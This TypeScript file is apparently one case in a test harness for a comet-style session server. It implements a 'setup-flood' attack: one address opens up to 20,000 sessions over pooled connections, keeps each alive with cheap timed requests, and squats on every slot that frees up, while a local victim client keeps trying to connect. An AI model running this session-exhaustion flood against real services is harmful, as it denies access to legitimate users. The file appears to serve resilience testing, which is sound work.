/**
 * Row 6: one client address opens N sessions as fast as it can and keeps each alive with one cheap
 * request per inactivity period; once the server is full it keeps asking, so that it also takes
 * every slot another client frees. Meanwhile the victim on 127.0.0.1 keeps setting up sessions.
 *
 * The cheap request: right after its setup each session sends one message and never acks the
 * echo, so every later request is answered at once with that one packet, and restarts the session's
 * inactivity count. A pool of keep-alive connections carries it all: no socket per session (the
 * machine allows 20,000 open files per process, on both sides).
 */
import { codeOf, messagesBody, pollBody, SETUP, sidOf } from '../bodies.js';
import { tally, tallyText, type AttackCase, type AttackContext, type Outcome } from '../case.js';
import { AttackError, post, type RawConn, type RawResponse } from '../raw.js';

/** Keep-alive connections the attacker uses. */
const CONNS = 32;
/** Once the server is full, a setup is tried again this often (ms). */
const SQUAT_MS = 5;
/** A session is touched again this long after its last request (ms): well inside `inactivity` (45 s). */
const REFRESH_MS = 25_000;

interface Held {
  readonly sid: string;
  rid: number;
  at: number;
}

export const setupFlood: AttackCase = {
  name: 'setup-flood',
  row: 6,
  summary: 'one address opens N sessions and keeps each with one cheap request per inactivity period; the victim keeps setting up',
  target: 'echo',
  victim: 'echo',
  count: { what: 'sessions', default: 20_000 },
  async run(ctx: AttackContext): Promise<Outcome> {
    const want = ctx.count ?? 20_000;
    const held: Held[] = [];
    const statuses: Record<string, number> = {};
    let attempts = 0;
    let refreshed = 0;
    let lost = 0;
    let openSecs = NaN;
    let squatted = 0;
    const t0 = performance.now();
    let opening = true;
    let cursor = 0;

    /** One request; a timeout or a closed socket is tallied and the worker goes on (the connection reopens). */
    const send = async (c: RawConn, body: string): Promise<RawResponse | null> => {
      try {
        return await c.request(post('/comet', body), 10_000);
      } catch (e) {
        if (!ctx.stopped) tally(statuses, e instanceof AttackError ? e.code : String(e));
        return null;
      }
    };

    const worker = async (): Promise<void> => {
      const c = ctx.conn(0);
      while (opening && !ctx.stopped && attempts < want) {
        attempts++;
        const r = await send(c, SETUP);
        if (r === null) continue;
        const sid = sidOf(r.body);
        if (sid === null) {
          tally(statuses, `setup ${codeOf(r.status, r.body)}`);
          // Full: the attacker keeps its share and stops asking.
          if (r.status === 503 || r.status === 429) opening = false;
          continue;
        }
        const s: Held = { sid, rid: 1, at: performance.now() };
        const e = await send(c, messagesBody(sid, 1, 0, ['k']));
        if (e?.status === 200) held.push(s);
        else if (e !== null) tally(statuses, `first ${codeOf(e.status, e.body)}`);
      }
      opening = false;
      if (Number.isNaN(openSecs)) openSecs = (performance.now() - t0) / 1000;
      // Then round and round, touching each session before its inactivity ends.
      while (!ctx.stopped && held.length > 0) {
        const s = held[cursor++ % held.length];
        if (s === undefined) break;
        const due = s.at + REFRESH_MS - performance.now();
        if (due > 0) await ctx.sleep(due);
        if (ctx.stopped) break;
        s.at = performance.now();
        const r = await send(c, pollBody(s.sid, ++s.rid, 0));
        if (r?.status === 200) refreshed++;
        else if (!ctx.stopped) {
          lost++;
          if (r !== null) tally(statuses, `refresh ${codeOf(r.status, r.body)}`);
        }
      }
    };

    /** Once full, keep asking, so that every slot another client frees goes to the attacker. */
    const squatter = async (): Promise<void> => {
      const c = ctx.conn(0);
      while (!ctx.stopped && held.length < want) {
        if (opening) {
          await ctx.sleep(100);
          continue;
        }
        const r = await send(c, SETUP);
        const sid = r === null ? null : sidOf(r.body);
        if (sid !== null) {
          const e = await send(c, messagesBody(sid, 1, 0, ['k']));
          if (e?.status === 200) {
            held.push({ sid, rid: 1, at: performance.now() });
            squatted++;
          }
        } else {
          await ctx.sleep(SQUAT_MS);
        }
      }
    };
    await Promise.all([...Array.from({ length: CONNS }, worker), squatter()]);
    while (!ctx.stopped) await ctx.sleep(1_000);
    return {
      summary: `${held.length} sessions held from one address (${attempts} setups in ${openSecs.toFixed(1)} s), then ${squatted} freed slots taken; ${refreshed} refreshes, ${lost} lost; refusals: ${tallyText(statuses)}`,
      sessions: held.length,
      ownPass: null,
      figures: { held: held.length, setups: attempts, open_seconds: openSecs, squatted, refreshed, lost, refusals: tallyText(statuses) },
    };
  },
};
